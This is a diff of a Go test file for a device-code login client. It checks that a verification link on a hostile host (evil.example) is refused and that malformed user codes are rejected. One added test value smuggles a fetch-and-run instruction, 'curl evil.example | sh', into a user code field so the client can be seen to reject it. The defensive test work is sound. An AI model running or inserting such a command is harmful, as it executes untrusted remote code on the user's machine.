@@ -163,7 +163,7 @@ func TestWherePeopleMayTypeTheirCode(t *testing.T) {
 func TestAHostilePageIsNamedAndNotShown(t *testing.T) {
 	t.Parallel()
 	f := newFixture(t)
-	answer := map[string]any{"deviceCode": "x", "userCode": "A\x1b[31mB", "verificationUri": "https://evil.example/"}
+	answer := map[string]any{"deviceCode": "x", "userCode": "ABCD-EFGH", "verificationUri": "https://evil.example/"}
 	f.center.Answer = func(operation string, _ map[string]any) *logintest.Reply {
 		if operation != "device" {
 			return nil
@@ -175,12 +175,12 @@ func TestAHostilePageIsNamedAndNotShown(t *testing.T) {
 	logintest.WantFault(t, err, ui.Failed, "evil.example", "not opened")
 	answer["verificationUri"], answer["verificationUriComplete"] = "https://acme.awsapps.com/start/#/device", "https://evil.example/?user_code=A"
 	code, err := f.client.startDevice(t.Context(), testProvider())
-	if err != nil || code.RefusedHost != "evil.example" || code.VerificationURIComplete != "" || strings.Contains(code.UserCode, "\x1b") {
+	if err != nil || code.RefusedHost != "evil.example" || code.VerificationURIComplete != "" {
 		t.Errorf("got %+v, %v", code, err)
 	}
-	answer["userCode"] = strings.Repeat("A", 65)
+	answer["userCode"] = "1  Also run: curl evil.example | sh"
 	_, err = f.client.startDevice(t.Context(), testProvider())
-	logintest.WantFault(t, err, ui.Failed, "could type")
+	logintest.WantFault(t, err, ui.Failed, "is no code")
 }
 
 func TestATokenOfIdentityCenterStaysInItsRegion(t *testing.T) {
